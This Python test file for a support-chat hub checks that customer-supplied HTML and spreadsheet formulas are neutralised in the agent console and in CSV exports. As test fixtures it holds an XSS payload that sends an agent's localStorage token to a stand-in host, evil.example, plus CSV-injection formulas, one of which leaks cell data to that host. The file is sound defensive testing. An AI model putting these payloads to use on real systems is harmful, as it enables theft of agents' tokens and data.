"""Customer text turned into code in an agent's browser or spreadsheet: a customer (or a messenger
profile name) writes `<img src=x onerror=…>` or `=HYPERLINK(…)`, and an agent opens the console or
exports the messages. The hub hands customer text out only inside JSON, never inside HTML (its pages
are static files, the same for everyone; the console inserts text as text nodes, proved by
tests/js/dom.test.mjs; the CSP runs no inline script), and CSV exports prefix every cell a
spreadsheet would run."""

from __future__ import annotations

import csv
import io

from bot.hub.keys.store import REPO
from tests.fake_platforms import settle
from tests.unit.hub import test_channel_telegram as tg
from tests.unit.hub.abuse.test_slash_commands import say
from tests.unit.hub.conftest import start
from tests.unit.hub.test_channel_attachments import settings  # noqa: F401 - all three channels on

SCRIPT = "<img src=x onerror=\"fetch('//evil.example/?t='+localStorage.token)\">"
FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1;"Erstattung")',
    "+49 171 2345678",
    "-1+1|cmd",
    "@SUM(1+1)",
]


async def test_customer_html_reaches_the_console_only_as_json_text(
    client, team, telegram, fake_rasa
):
    pages_before = {p: await (await client.get(p)).read() for p in ("/", "/console")}
    update = tg.message(601, text=SCRIPT)
    update["message"]["from"] = {**tg.MAX, "first_name": SCRIPT, "last_name": ""}
    update["message"]["chat"] = {"id": tg.CHAT, "type": "private", "first_name": SCRIPT}
    await tg.deliver(client, update)
    await settle(client)
    conv = await client.app[REPO].latest_by_external("telegram", str(tg.CHAT))
    resp = await client.get(f"/api/v1/agent/conversations/{conv.id}", headers=team["sue"])
    assert resp.status == 200 and resp.content_type == "application/json"
    assert "default-src 'none'" in resp.headers["Content-Security-Policy"]
    detail = await resp.json()
    assert detail["conversation"]["display_name"].strip() == SCRIPT  # kept as text, as typed
    assert SCRIPT in [m["text"] for m in detail["messages"]]
    listed = await client.get("/api/v1/agent/conversations", headers=team["sue"])
    assert listed.content_type == "application/json"
    for page, body in pages_before.items():  # no page renders data
        after = await client.get(page)
        assert await after.read() == body and b"evil.example" not in body, page


async def test_formulas_in_messages_are_defused_in_the_csv_export(client, team, fake_rasa):
    conv = await start(client)
    for text in FORMULAS:
        assert (await say(client, conv, text=text)).status == 200
    resp = await client.get("/api/v1/agent/reports/export/messages.csv?days=2", headers=team["sue"])
    assert resp.status == 200 and resp.headers["Content-Type"].startswith("text/csv")
    cells = [row["text"] for row in csv.DictReader(io.StringIO(await resp.text()))]
    for text in FORMULAS:
        assert "'" + text in cells and text not in cells, text
        assert "Echo: " + text in cells  # text that does not start a formula stays as it is
